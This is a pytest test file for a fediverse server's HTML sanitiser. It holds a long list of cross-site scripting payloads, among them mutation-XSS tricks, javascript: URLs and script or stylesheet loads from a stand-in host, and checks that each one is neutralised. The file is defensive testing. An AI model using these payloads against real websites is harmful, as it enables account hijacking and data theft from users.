"""HTML from strangers: what remains is what the allow-list names (security.md section 5)."""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fedi.text import sanitise

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='https://a.example/x'/onerror=alert(1)>",
    '<img src="https://a.example/" alt=\'"><script>alert(1)</script>\'>',
    '<img src="javascript:alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x>'>",
    "<math><mi><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src onerror=alert(1)>'></noembed>",
    "<template><s><template><s><img src=x onerror=alert(1)>",
    "<textarea><img title='</textarea><img src onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src onerror=alert(1)>'></title>",
    "<xmp><p title='</xmp><svg/onload=alert(1)>'></xmp>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><script>alert(1)</script>-->",
    "<?xml-stylesheet href='javascript:alert(1)'?><script>1</script>",
    "<a href='jav&#x09;ascript:alert(1)'>a</a>",
    "<a href=' javascript:alert(1)'>a</a>",
    "<a href='\x01javascript:alert(1)'>a</a>",
    "<a href='JaVaScRiPt:alert(1)'>a</a>",
    "<a href='javascript&colon;alert(1)'>a</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a</a>",
    "<a href='vbscript:x'>a</a>",
    "<a href='//evil.example'>a</a>",
    "<a href='/settings/delete'>a</a>",
    "<a href='https://a.example' onclick=alert(1) style='position:fixed' id=app name=x>a</a>",
    "<a href='https://a.example' target=_self rel=opener download ping=//evil.example>a</a>",
    "<a href='https://a.example",
    "<a href='https://a.example' title='",
    "<p style='position:fixed;inset:0' onclick=x() id=app class='u-url admin-bar'>t</p>",
    "<span class='admin-bar modal' data-x=1 slot=x is=y>t</span>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object><embed src='javascript:alert(1)'>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:x>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src onerror=alert(1)>",
    "<table background='javascript:alert(1)'><td background=javascript:x>",
    "<body onload=alert(1)><html onmouseover=alert(1)>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<h1 onclick=alert(1)>x</h1><h2/onclick=alert(1)>x</h2>",
    "<h1 title='<h1 onclick=alert(1)>'>x</h1>",
    "<b <script>alert(1)</script>0",
    "<p>\ud800<script>alert(1)</script></p>",
]

TAGS = {
    "p",
    "br",
    "a",
    "span",
    "em",
    "strong",
    "b",
    "i",
    "u",
    "s",
    "del",
    "sub",
    "sup",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "ruby",
    "rt",
    "rp",
}
ATTRIBUTES = {
    "a": {"href", "rel", "class", "title", "translate", "target", "lang"},
    "span": {"class", "translate", "lang"},
    "ol": {"start", "reversed", "lang"},
    "li": {"value", "lang"},
}


class Reader(HTMLParser):
    """What a second, different parser finds in the result."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.depth = self.deepest = 0
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        self.depth += tag != "br"
        self.deepest = max(self.deepest, self.depth)

    def handle_endtag(self, tag: str) -> None:  # noqa: ARG002 - the parser names it
        self.depth -= 1

    def handle_data(self, data: str) -> None:
        self.text += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Reader(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES.get(tag, {"lang"})
        if tag == "a":
            assert {"nofollow", "noopener", "noreferrer"} <= set((attributes["rel"] or "").split())
            assert attributes["target"] == "_blank"
            assert re.match(r"https?://", attributes.get("href") or "https://none")


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_survives(attack: str) -> None:
    wrapped = sanitise.clean(f"<p>before</p>{attack}")
    assert_harmless(wrapped)
    assert "before" in wrapped
    assert "alert(1)</script" not in wrapped
    assert sanitise.clean(wrapped) == wrapped, "a second look must not wake anything up"


@given(st.text(alphabet="<>/=\"'ab&;: \n-!pi", max_size=60))
def test_any_soup_of_markup_is_harmless_and_settled(soup: str) -> None:
    once = sanitise.clean(soup)
    assert_harmless(once)
    assert sanitise.clean(once) == once


@given(st.lists(st.sampled_from([*ATTACKS, "</p>", "</svg>", "</style>", "-->", "x"]), max_size=4))
def test_attacks_in_a_row_are_harmless_too(parts: list[str]) -> None:
    assert_harmless(sanitise.clean("".join(parts)))


def test_what_other_servers_write_stays_as_it_is() -> None:
    written = (
        '<p lang="de">Hi <span class="h-card" translate="no">'
        '<a href="https://b.example/@bob" class="u-url mention" target="_blank"'
        ' rel="nofollow noopener noreferrer">@<span>bob</span></a></span><br>'
        "<em>a</em><strong>b</strong><del>c</del><code>d</code></p>"
        '<ol start="3"><li value="4">x</li></ol><blockquote>q</blockquote><pre>p</pre>'
        "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>"
    )
    assert sanitise.clean(written) == written


def test_headings_become_strong_and_pictures_become_links() -> None:
    assert sanitise.clean("<h2>Title</h2>x") == "<p><strong>Title</strong></p>x"
    shown = Reader(sanitise.clean('<img src="https://a.example/c.png" alt="a &lt;cat&gt;">'))
    assert shown.text == "a <cat>"
    assert shown.tags[0][1]["href"] == "https://a.example/c.png"
    assert "href" not in sanitise.clean('<img src="/x.png" alt="cat">')


def test_a_link_shows_where_it_really_leads() -> None:
    """CVE-2023-36462."""
    for shown in (
        "https://fedi.example/login",
        "fedi.example",
        "www.fedi.example/login",
        "https://\u200bfedi.example",
        "@press@fedi.example",
        "ｈｔｔｐｓ://fedi。example",
        "<span>https://</span>fedi<b>.example</b>/login (safe)",
    ):
        honest = sanitise.clean(f'<a href="https://evil.example/x">{shown}</a>')
        assert Reader(honest).text == "https://evil.example/x", shown
        assert sanitise.clean(honest) == honest


@pytest.mark.parametrize(
    ("href", "shown"),
    [
        ("https://fedi.example/a?b=1&amp;c=2", "https://fedi.example/a?b=1&amp;c=2"),
        ("https://www.fedi.example/", "fedi.example"),
        ("https://FEDI.example/", "fedi.example/…"),
        ("https://a.example", "read more. It is good"),
        ("https://a.example", "E.g. this one"),
        ("https://a.example", "version 1.2"),
    ],
)
def test_an_honest_link_keeps_its_words(href: str, shown: str) -> None:
    assert f">{shown}</a>" in sanitise.clean(f'<a href="{href}">{shown}</a>')


def test_a_mention_of_somebody_the_post_does_not_name_is_a_plain_link() -> None:
    mention = '<a href="https://b.example/@bob" class="mention u-url">@<span>bob</span></a>'
    named = sanitise.clean(mention, mentioned={"https://b.example/@bob"})
    assert 'class="mention u-url"' in named
    assert 'class="u-url"' in sanitise.clean(mention, mentioned=())
    assert "class" not in sanitise.clean(mention.replace(" u-url", ""), mentioned=())
    tag = '<a href="https://b.example/tags/x" class="mention hashtag" rel="tag">#x</a>'
    assert 'class="mention hashtag"' in sanitise.clean(tag, mentioned=())
    assert 'rel="tag nofollow noopener noreferrer"' in sanitise.clean(tag)


@pytest.mark.parametrize(
    "unit",
    ["<b>", "<b><i></b>", "<span>", "<blockquote><p>", "<ul><li>", "<B\u212a></bk>", "<b></x>"],
)
def test_deep_nesting_is_flattened_at_a_hundred_and_keeps_its_text(unit: str) -> None:
    deep = Reader(sanitise.clean(unit * 5000 + "core"))
    assert "core" in deep.text
    assert deep.deepest <= 2 * sanitise.DEPTH  # `p` and `li` close themselves and are not counted


def test_many_shallow_elements_are_not_flattened() -> None:
    flat = "<p><b>x</b></p>" * 500
    assert sanitise.clean(flat) == flat


@pytest.mark.parametrize(
    "unit",
    [
        "<b>",
        "<h1",
        "<img",
        "<a",
        "<!--",
        "&",
        "<",
        "<p>",
        "</a>",
        "&lt;",
        "a@",
        "@a.a",
        "<b></b",
        "<svg>",
        "<a/href=https://a.a>",
    ],
)
def test_a_hundred_kilobytes_of_anything_take_no_time(unit: str) -> None:
    text = (unit * 100_000)[:100_000]
    begun = time.process_time()
    sanitise.clean(text)
    sanitise.plain(text)
    assert time.process_time() - begun < 1.5


def test_control_characters_and_overrides_go_and_line_breaks_stay() -> None:
    assert (
        sanitise.clean("<p>a\x00b\x01\x1b[31mred\u202e</p>\n<p>c</p>")
        == "<p>ab[31mred</p>\n<p>c</p>"
    )
    assert sanitise.clean("a\x07 & b > c") == "a &amp; b &gt; c"


@given(st.text())
def test_plain_text_never_fails(text: str) -> None:
    sanitise.plain(text)


def test_plain_text_has_the_words_and_the_breaks() -> None:
    html = (
        "<p>a &lt;b&gt;<br>c</p><p>d <script>no</script>"
        '<a href="https://x.example/long"><span class="invisible">https://</span>x.example/long</a>'
        "</p><ul><li>e</li><li>f</li></ul>"
    )
    assert sanitise.plain(html) == "a <b>\nc\n\nd https://x.example/long\n\ne\nf"
    assert sanitise.plain("no markup") == "no markup"
